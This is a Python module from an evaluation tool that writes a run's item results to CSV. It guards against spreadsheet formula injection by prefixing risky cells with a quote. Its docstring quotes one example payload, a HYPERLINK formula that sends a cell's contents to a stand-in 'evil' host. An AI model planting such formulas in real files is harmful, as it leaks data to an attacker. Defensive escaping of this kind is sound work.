"""A run's item results as CSV, safe to open in a spreadsheet.

Model outputs, questions and error texts are tenant- or model-written; a cell such as
`=HYPERLINK("http://evil/?"&A1)` would run as a formula where the CSV is opened.
Following OWASP's guidance on CSV injection, every text cell that begins with `=`, `+`,
`-`, `@`, a tab or a carriage return is prefixed with a single quote, so it is shown as
text; the csv module quotes cells with separators or quotes. Numbers lse computes
(scores, token counts, latencies) are written as numbers. The CLI's
`lse eval show --format csv` and the API's `GET /evaluations/{id}/results.csv` both
write through `results_csv`.
"""

from __future__ import annotations

import csv
import io
from typing import Any

from lse.evals.schemas import RunDetail

RESULT_COLUMNS = (
    "position",
    "question_id",
    "duplicate_index",
    "question",
    "expected_answer",
    "output",
    "status",
    "score",
    "score_status",
    "error",
    "error_code",
    "input_tokens",
    "cached_tokens",
    "output_tokens",
    "reasoning_tokens",
    "latency_ms",
    "attempts",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """A text cell made inert for spreadsheets (OWASP): a leading quote before a formula start."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def results_csv(run: RunDetail) -> str:
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=RESULT_COLUMNS, extrasaction="ignore", lineterminator="\n")
    writer.writeheader()
    for r in run.results or []:
        writer.writerow({k: neutralise(v) for k, v in r.model_dump().items()})
    return buf.getvalue()
